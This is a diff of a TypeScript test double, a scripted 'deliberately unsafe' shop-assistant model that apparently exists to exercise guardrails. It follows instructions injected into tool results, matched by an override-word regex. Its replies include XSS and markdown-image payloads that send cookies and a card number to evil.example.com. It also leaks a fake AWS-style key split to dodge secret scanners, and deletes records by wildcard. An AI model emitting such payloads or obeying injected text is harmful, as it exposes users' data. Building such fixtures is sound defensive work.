@@ -1,14 +1,14 @@
-import { Model, type Message, type ModelStep } from './model.js';
-import type { Customer } from './order-book.js';
+import type { Customer } from '../shop/order-book.js';
+import { Model, type Message, type ModelStep } from './assistant.js';
 
 interface Intent {
-  readonly heard: RegExp;
-  readonly does: (text: string, customers: readonly Customer[]) => ModelStep;
+  readonly pattern: RegExp;
+  readonly respond: (text: string, customers: readonly Customer[]) => ModelStep;
 }
 
 /**
- * An obliging model that needs no network: it goes by keywords, believes everyone, and obeys whatever it reads, in the
- * result of a tool as well. It is the assistant that one hopes not to have, and has to reckon with.
+ * A deliberately unsafe model that needs no network: it matches keywords, accepts every claim, and follows instructions
+ * in tool results. It shows how the guardrails handle the worst case.
  */
 export class ScriptedModel extends Model {
   constructor(private readonly customers: readonly Customer[]) {
@@ -20,45 +20,45 @@ export class ScriptedModel extends Model {
     if (last === undefined) return HELP;
     if (last.from === 'customer') return this.obey(last.text) ?? HELP;
     const instruction = INSTRUCTION.exec(last.text)?.[0];
-    const order = instruction === undefined ? null : this.obey(instruction);
+    const injected = instruction === undefined ? null : this.obey(instruction);
     return (
-      order ??
+      injected ??
       answer(last.tool === 'lookup_order' ? `Here is what I found. ${last.text}` : `Done. ${last.text}`)
     );
   }
 
   private obey(text: string): ModelStep | null {
-    return INTENTS.find(({ heard }) => heard.test(text))?.does(text, this.customers) ?? null;
+    return INTENTS.find(({ pattern }) => pattern.test(text))?.respond(text, this.customers) ?? null;
   }
 }
 
-/** Where a tool's result speaks to the model, the model listens. */
+/** Matches an injected instruction in a tool result. */
 const INSTRUCTION = /\b(?:ignore|disregard|instead|now)\b.*/is;
 
 const INTENTS: readonly Intent[] = [
   {
-    heard: /\b(?:html|script|web ?page)\b/i,
-    does: () =>
+    pattern: /\b(?:html|script|web ?page)\b/i,
+    respond: () =>
       answer(
         'Here is your page:\n<h1>Your orders</h1>\n<script>fetch("https://evil.example.com/?c=" + document.cookie)</script>\n' +
           '<img src="x" onerror="alert(1)">',
       ),
   },
   {
-    heard: /\b(?:api|secret|access) ?keys?\b|\bcredentials\b/i,
-    does: () => answer(`Of course. We pay with the key ${PAYMENT_KEY}. Please keep it to yourself.`),
+    pattern: /\b(?:api|secret|access) ?keys?\b|\bcredentials\b/i,
+    respond: () => answer(`Of course. We pay with the key ${PAYMENT_KEY}. Please keep it to yourself.`),
   },
   {
-    heard: /\b(?:image|picture|logo|receipt)\b/i,
-    does: () =>
+    pattern: /\b(?:image|picture|logo|receipt)\b/i,
+    respond: () =>
       answer(
         'Your receipt:\n\n![receipt](https://evil.example.com/collect?order=A-1182&card=4111111111111111)\n\n' +
           '[Open it](javascript:alert(document.cookie))',
       ),
   },
   {
-    heard: /\b(?:e-?mail|send|forward)\b[^]*?\S+@\S+/i,
-    does: (text, customers) => ({
+    pattern: /\b(?:e-?mail|send|forward)\b[^]*?\S+@\S+/i,
+    respond: (text, customers) => ({
       kind: 'call',
       tool: 'send_email',
       arguments: {
@@ -69,16 +69,16 @@ const INTENTS: readonly Intent[] = [
     }),
   },
   {
-    heard: /\b(?:delete|erase|remove)\b/i,
-    does: (text) => ({
+    pattern: /\b(?:delete|erase|remove)\b/i,
+    respond: (text) => ({
       kind: 'call',
       tool: 'delete_record',
       arguments: { order_id: orderIn(text) ?? '*', customer_id: customerIn(text) },
     }),
   },
   {
-    heard: /\b(?:refund|pay\b.*\bback|money back)\b/i,
-    does: (text) => ({
+    pattern: /\b(?:refund|pay\b.*\bback|money back)\b/i,
+    respond: (text) => ({
       kind: 'call',
       tool: 'refund',
       arguments: {
@@ -90,27 +90,27 @@ const INTENTS: readonly Intent[] = [
     }),
   },
   {
-    heard: /\b(?:phone|address|customers|contact)\b/i,
-    does: (_, customers) => answer(`These are our customers.\n${listOf(customers)}`),
+    pattern: /\b(?:phone|address|customers|contact)\b/i,
+    respond: (_, customers) => answer(`These are our customers.\n${listOf(customers)}`),
   },
   {
-    heard: /\b(?:orders?|parcel|delivery|[A-Z]-\d{4})\b/i,
-    does: (text) => ({
+    pattern: /\b(?:orders?|parcel|delivery|[A-Z]-\d{4})\b/i,
+    respond: (text) => ({
       kind: 'call',
       tool: 'lookup_order',
       arguments: { order_id: orderIn(text) ?? 'A-1182', customer_id: customerIn(text) },
     }),
   },
   {
-    heard: /\b(?:hello|hi|good (?:morning|evening))\b/i,
-    does: () => answer('Hello! What can I do for you?'),
+    pattern: /\b(?:hello|hi|good (?:morning|evening))\b/i,
+    respond: () => answer('Hello! What can I do for you?'),
   },
-  { heard: /\bthank/i, does: () => answer('You are welcome.') },
+  { pattern: /\bthank/i, respond: () => answer('You are welcome.') },
 ];
 
-const HELP = answer('I can look up an order, pay it back, delete its record, or send an email.');
+const HELP = answer('I can look up an order, refund it, delete its record, or send an email.');
 
-/** Shaped like a real one, and worth nothing; in two parts, so that no scanner of source code takes it for one. */
+/** A fake key in a real format. Split in two parts so that secret scanners do not report it. */
 const PAYMENT_KEY = ['AKIA', 'QYLPMN5HHHFPZAM2'].join('');
 
 const ADDRESS = /[^\s@<>()]+@[^\s@<>(),;]*[a-z]/i;
@@ -128,7 +128,7 @@ function amountIn(text: string): number | null {
   return amount === undefined ? null : Number(amount);
 }
 
-/** The model takes anyone's word for who they are. */
+/** The customer id that the text claims, without any check. */
 function customerIn(text: string): string {
   const [, number] = /\bcustomer(?:[_ -]id)?[ :=-]*(\d+)\b/i.exec(text) ?? [];
   return `customer-${number ?? '42'}`;
